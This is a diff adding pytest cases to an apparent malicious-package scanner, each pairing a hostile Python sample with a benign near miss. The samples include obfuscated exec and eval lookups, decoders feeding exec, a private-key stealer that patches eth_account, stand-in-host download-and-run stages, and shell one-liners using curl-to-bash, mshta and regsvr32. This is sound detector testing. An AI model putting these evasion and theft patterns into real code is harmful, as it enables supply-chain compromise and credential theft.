@@ -567,3 +567,395 @@ def test_threats_are_danger_in_plugin_mode_whatever_is_declared() -> None:
     threat = next(f for f in findings if f.rule_id == "CPL-THR-001")
     assert threat.severity is Severity.DANGER
     assert not threat.covered
+
+
+# -- branch recall: generalisations, each with its benign near miss --------------------------
+
+_STAGE = base64.b64encode(
+    b'import urllib.request\nexec(urllib.request.urlopen("https://x.example/s").read())\n'
+).decode()
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a name spelled by an operation the evaluator does not follow: still from literals
+        "import builtins\ngetattr(builtins, ''.join(sorted('cexe')).swapcase().lower())(c)\n",
+        "b = __builtins__\nb.__dict__[str(oct)[3].zfill(2)](c)\n",
+    ],
+)
+def test_a_builtin_named_by_any_computation_on_literals_is_a_threat(source: str) -> None:
+    assert "CPL-THR-003" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # compatibility shims look builtins up by a parameter or a loop variable
+        "import builtins\ndef get(name):\n    return getattr(builtins, name)\n",
+        "import builtins\nfor n in ('unicode', 'long'):\n    getattr(builtins, n, None)\n",
+        "import builtins\nf = getattr(builtins, input())\n",
+    ],
+)
+def test_a_builtin_named_at_run_time_is_not_a_computed_name(source: str) -> None:
+    assert "CPL-THR-003" not in danger(source)
+
+
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        # exec picked out of a list; eval looked up in globals() by a split name
+        (
+            f"import base64\nfns = [print, exec]\nfns[1](base64.b64decode({_STAGE!r}))\n",
+            "CPL-THR-001",
+        ),
+        (
+            f"import base64\nglobals()['ev' + 'al']"
+            f"(compile(base64.b64decode({_STAGE!r}), 'x', 'exec'))\n",
+            "CPL-THR-001",
+        ),
+        # XOR in place, and a Caesar shift, written as loops (tune: ds-bytearray-xor, ds-rot-loop)
+        (
+            "buf = bytearray(D)\nfor i in range(len(buf)):\n"
+            "    buf[i] ^= K[i % 3]\nexec(bytes(buf))\n",
+            "CPL-THR-001",
+        ),
+        ("o = ''\nfor c in E:\n    o += chr(ord(c) - 3)\nexec(o)\n", "CPL-THR-001"),
+        # the sink behind a helper or a lambda of this file (tune: ds-helper-exec, ds-lambda-sink)
+        (
+            f"import base64\ndef load(blob):\n    exec(compile(blob, 'c', 'exec'))\n\n"
+            f"load(base64.b64decode({_STAGE!r}))\n",
+            "CPL-THR-001",
+        ),
+        (
+            "import os, base64\nrun = lambda c: os.system(c)\nrun(base64.b64decode(C).decode())\n",
+            "CPL-THR-001",
+        ),
+        # os.exec* runs its argv; a pickle decoded from a literal runs what it names
+        (
+            "import os, base64\nos.execvp('sh', ['sh', '-c', base64.b64decode(C).decode()])\n",
+            "CPL-THR-001",
+        ),
+        (
+            "import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQo='))\n",
+            "CPL-THR-001",
+        ),
+    ],
+)
+def test_decoders_reach_sinks_through_aliases_loops_and_helpers(source: str, rule: str) -> None:
+    assert rule in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a checksum XORed in a loop, letters shifted for column names: no sink runs them
+        "crc = 0\nfor b in data:\n    crc ^= b\nprint(crc)\n",
+        "cols = [chr(ord('A') + i) for i in range(5)]\nprint(cols)\n",
+        # a helper running a fixed command; a list of callbacks called with plain data
+        "import subprocess\ndef run(cmd):\n    subprocess.call(cmd)\n\nrun(['ls', '-l'])\n",
+        "handlers = [print, len]\nhandlers[0](data)\n",
+        # a pickle of run-time data (a cache, a queue message)
+        "import pickle, base64\ndef load(s):\n    return pickle.loads(base64.b64decode(s))\n",
+        # os.execvp re-running the interpreter on a script of the package
+        "import os, sys\nos.execvp(sys.executable, [sys.executable, 'manage.py'])\n",
+    ],
+)
+def test_loops_helpers_and_unpicklers_of_plain_data_are_not_threats(source: str) -> None:
+    assert not danger(source) & {"CPL-THR-001", "CPL-THR-002", "CPL-THR-003"}
+
+
+_SRC = 'import urllib.request\\nexec(urllib.request.urlopen(\\"https://x.example/s\\").read())\\n'
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # python reading its program from stdin (tune: ls-stdin-python, ls-communicate)
+        f'import subprocess, sys\nsubprocess.run([sys.executable, "-"], input="{_SRC}")\n',
+        f'import subprocess\np = subprocess.Popen(["python3"], stdin=subprocess.PIPE)\n'
+        f'p.communicate("{_SRC}")\n',
+        # a literal written, then read back into exec (tune: ls-exec-read-back)
+        f'P = "/tmp/u.py"\nwith open(P, "w") as f:\n    f.write("{_SRC}")\nexec(open(P).read())\n',
+        # a temporary file's name run by the interpreter (tune: ls-tempfile-sysexec)
+        f"import subprocess, sys, tempfile\n"
+        f'with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as t:\n'
+        f'    t.write("{_SRC}")\nsubprocess.Popen([sys.executable, t.name])\n',
+    ],
+)
+def test_a_literal_stage_run_through_stdin_or_a_file_read_back_is_a_threat(source: str) -> None:
+    assert "CPL-THR-016" in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # setup.py reading its version file into exec; a harmless snippet on stdin
+        'exec(open("mypkg/version.py").read())\n',
+        'import subprocess, sys\nsubprocess.run([sys.executable, "-"], input="print(1)")\n',
+        "import subprocess, sys, tempfile\n"
+        'with tempfile.NamedTemporaryFile(suffix=".py", delete=False) as t:\n'
+        '    t.write("print(42)")\nsubprocess.run([sys.executable, t.name])\n',
+    ],
+)
+def test_a_harmless_stage_or_a_version_file_is_not_a_threat(source: str) -> None:
+    assert not danger(source, "setup.py") & {"CPL-THR-016", "CPL-THR-001", "CPL-THR-002"}
+
+
+def test_a_download_run_by_the_interpreter_named_before_it_is_a_threat() -> None:
+    source = (
+        "import os, sys, urllib.request\nurllib.request.urlretrieve(U, '/tmp/x.py')\n"
+        "p = '/tmp/x.py'\nurllib.request.urlretrieve(U, p)\nos.system(sys.executable + ' ' + p)\n"
+    )
+    assert "CPL-THR-002" in danger(source)
+    assert "CPL-THR-002" not in danger("import os, sys\nos.system(sys.executable + ' build.py')\n")
+
+
+# -- issue 4's families: a patched library, credentials handed over, files run natively -----
+
+
+def test_a_library_function_replaced_by_one_that_sends_its_arguments_is_a_threat() -> None:
+    source = """
+    import threading
+    import requests
+    import eth_account
+
+    _orig = eth_account.Account.from_key
+
+    def _patched(key):
+        threading.Thread(target=requests.post, args=("https://rpc.example/v",),
+                         kwargs={"json": {"k": str(key)}}).start()
+        return _orig(key)
+
+    eth_account.Account.from_key = _patched
+    """
+    assert "CPL-THR-025" in danger(source, "ethx/__init__.py")
+
+
+@pytest.mark.parametrize(
+    ("source", "filename"),
+    [
+        # a test replacing a library function with a fake that talks to a test server
+        (
+            "import requests\nimport somelib\n\ndef fake(url):\n"
+            "    return requests.post('https://httpbin.example/post')\n\n"
+            "somelib.api.fetch = fake\n",
+            "tests/test_api.py",
+        ),
+        # an instance's attribute replaced (a fixture), not the library's
+        (
+            "import aiohttp\nimport requests\n\ndef fake(*a):\n"
+            "    return requests.post('https://x.example/')\n\n"
+            "aiohttp.ClientSession()._connector.connect = fake\n",
+            "pkg/helpers.py",
+        ),
+        # a compatibility patch that sends nothing
+        (
+            "import requests\nimport somelib\n\ndef quiet(*a, **k):\n    return None\n\n"
+            "somelib.warn = quiet\nrequests.get('https://x.example/')\n",
+            "pkg/compat.py",
+        ),
+    ],
+)
+def test_patches_in_tests_of_instances_or_that_send_nothing_are_not_threats(
+    source: str, filename: str
+) -> None:
+    assert "CPL-THR-025" not in danger(source, filename)
+
+
+def test_credentials_handed_to_a_function_and_sent_in_clear_text_are_a_threat() -> None:
+    source = """
+    import requests
+
+    def ssh_connect(host, user, password=None, pkey=None):
+        requests.post("http://ssh-stats.example/i.php", data={"h": host, "p": password})
+    """
+    assert "CPL-THR-026" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a login to an HTTPS service, and a local development server over http
+        "import requests\ndef login(user, password):\n"
+        "    requests.post('https://api.example.com/login', json={'password': password})\n",
+        "import requests\ndef login(user, password):\n"
+        "    requests.post('http://localhost:8080/login', json={'password': password})\n",
+        # a token that is not a parameter of the function (read from configuration)
+        "import requests\nTOKEN = load()\ndef ping():\n"
+        "    requests.get('http://status.example/ping', headers={'t': TOKEN})\n",
+    ],
+)
+def test_credentials_sent_over_tls_to_localhost_or_not_handed_over_are_not_this_threat(
+    source: str,
+) -> None:
+    assert "CPL-THR-026" not in danger(source)
+
+
+def test_a_native_library_written_from_decoded_data_and_loaded_is_a_threat() -> None:
+    source = """
+    import ctypes, os
+    blob = bytearray(open(os.path.join(os.path.dirname(__file__), "a.dat"), "rb").read())
+    for i in range(len(blob)):
+        blob[i] ^= 0x3A
+    with open("/tmp/c.db", "wb") as f:
+        f.write(blob)
+    ctypes.CDLL("/tmp/c.db")
+    """
+    assert "CPL-THR-001" in danger(source)
+    # a library the package ships, loaded from where it lies
+    plain = "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib.so'))\n"
+    assert not danger(plain)
+
+
+def test_the_calling_program_sent_to_a_fixed_host_is_reconnaissance() -> None:
+    source = """
+    import inspect, requests
+    frame = inspect.stack()[-1]
+    requests.post("http://203.0.113.7/u", json={"code": open(frame.filename).read()})
+    """
+    assert "CPL-THR-017" in danger(source)
+    # frames inspected for a log message that stays local
+    assert not danger("import inspect, logging\nlogging.info(inspect.stack()[1].function)\n")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # XOR by a lambda or operator.xor mapped over the data; a substitution table
+        "D = bytes([1, 2])\nexec(bytes(map(lambda b: b ^ 7, D)))\n",
+        "import operator, itertools\nexec(bytes(map(operator.xor, D, itertools.cycle([5]))))\n",
+        "E = 'vzcbeg bf'\nexec(E.translate(str.maketrans(B, A)))\n",
+        # a decoder written as a function of this module, its result run
+        "def dec(s, k):\n    out = ''\n    for i, c in enumerate(s):\n"
+        "        out += chr(ord(c) ^ ord(k[i % len(k)]))\n    return out\n\n"
+        "eval(compile(dec(E, 'k'), '<x>', 'exec'))\n",
+        # a list filled by a loop, and a method of this file given decoded data
+        "out = []\nfor b in D:\n    out.append(b ^ 3)\nexec(bytes(out))\n",
+        "import base64\nclass L:\n    def go(self, d):\n        exec(d)\n\n"
+        "L().go(base64.b64decode(P))\n",
+        # an integer unpacked into the program; os.system bound to a name
+        "n = 123456789\nexec(n.to_bytes(9, 'big'))\n",
+        "import base64\nimport os as o\nrun = o.system\nrun(base64.b64decode(C).decode())\n",
+    ],
+)
+def test_decoders_written_by_hand_reach_their_sinks(source: str) -> None:
+    assert "CPL-THR-001" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a checksum mapped with operator.xor and printed; a translation table for display
+        "import functools, operator\nprint(functools.reduce(operator.xor, data, 0))\n",
+        "T = str.maketrans('-', '_')\nname = raw.translate(T)\nprint(name)\n",
+        # a method of this file given plain data; decoded data written to another object
+        "class L:\n    def go(self, d):\n        exec(d)\n\nL().go('x = 1')\n",
+        "import base64\nclass F:\n    def write(self, s):\n        exec(s)\n\n"
+        "out.write(base64.b64decode(line))\n",
+    ],
+)
+def test_xor_tables_and_methods_of_plain_data_are_not_decoders(source: str) -> None:
+    assert "CPL-THR-001" not in danger(source)
+
+
+@pytest.mark.parametrize(
+    "runner",
+    [
+        "os.system(f'python \"{P}\"')",
+        "subprocess.run('{} {}'.format(sys.executable, P), shell=True)",
+        "subprocess.run('%s %s' % (sys.executable, P), shell=True)",
+    ],
+)
+def test_a_written_stage_run_by_a_quoted_or_formatted_command_is_found(runner: str) -> None:
+    source = (
+        "import os, subprocess, sys\n"
+        "S = 'import urllib.request\\nexec(urllib.request.urlopen(\"https://x.example/s\").read())'\n"
+        "P = os.path.join(os.getenv('APPDATA'), 'u.pyw')\n"
+        f"with open(P, 'w') as fh:\n    fh.write(S)\n{runner}\n"
+    )
+    assert "CPL-THR-016" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "__builtins__.__getitem__('ex' + 'ec')(c)\n",
+        "import builtins\nbuiltins.__dict__.__getitem__('ev' + 'al')(c)\n",
+        "locals()['__builtins__']['ex' + 'ec'](c)\n",
+        "import builtins\n"
+        "getattr(builtins, [n for n in dir(builtins) if n[::-1] == 'cexe'][0])(c)\n",
+        "eval('__imp' + 'ort__')('os').system('id')\n",
+    ],
+)
+def test_more_lookups_by_computed_names_are_threats(source: str) -> None:
+    assert "CPL-THR-003" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a registry filled from a module's names, a builtin picked by a parameter
+        "import builtins\nNAMES = [n for n in dir(builtins) if not n.startswith('_')]\n",
+        "def pick(ns, key):\n    return ns.__getitem__(key)\n",
+        "eval('1 + 2')\n",
+    ],
+)
+def test_lookups_by_plain_or_run_time_names_are_not_computed(source: str) -> None:
+    assert "CPL-THR-003" not in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os\nos.system('echo Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo | base64 -d | bash')\n",
+        "import subprocess\nsubprocess.Popen('mshta https://x.example/a.hta', shell=True)\n",
+        "import os\nos.system('regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll')\n",
+    ],
+)
+def test_shell_commands_that_decode_or_fetch_and_run_are_threats(source: str) -> None:
+    assert "CPL-THR-015" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # decoding to a file, an installer run from a local path
+        "import os\nos.system('base64 -d key.b64 > key.pem')\n",
+        "import os\nos.system('msiexec /i C:\\\\setup\\\\app.msi /quiet')\n",
+    ],
+)
+def test_shell_commands_that_decode_to_files_or_install_local_msis_are_not(source: str) -> None:
+    assert "CPL-THR-015" not in danger(source)
+
+
+def test_a_download_and_a_run_in_separate_helpers_meet_through_their_parameters() -> None:
+    source = """
+    import os, subprocess, requests
+
+    def fetch(url, file):
+        r = requests.get(url, stream=True)
+        with open(file, "wb") as f:
+            for chunk in r.iter_content(8192):
+                f.write(chunk)
+
+    def start(path):
+        command = [path, "-o", "pool.example:8080"]
+        subprocess.Popen(command)
+
+    def main():
+        path = "/tmp/runner"
+        fetch("https://x.example/runner", file=path)
+        start(path)
+    """
+    assert "CPL-THR-002" in danger(source)
+    # the same helpers, the download saved and a different program run
+    benign = source.replace("        start(path)\n", '        start("/usr/bin/true")\n')
+    assert benign != source
+    assert "CPL-THR-002" not in danger(benign)
+
+
+def test_an_inline_lambda_passes_its_argument_to_the_sink_inside() -> None:
+    source = "import base64\n(lambda x: exec(base64.b64decode(x)))(BLOB)\n"
+    assert "CPL-THR-001" in danger(source)
+    assert "CPL-THR-001" not in danger("(lambda x: print(x))(BLOB)\n")
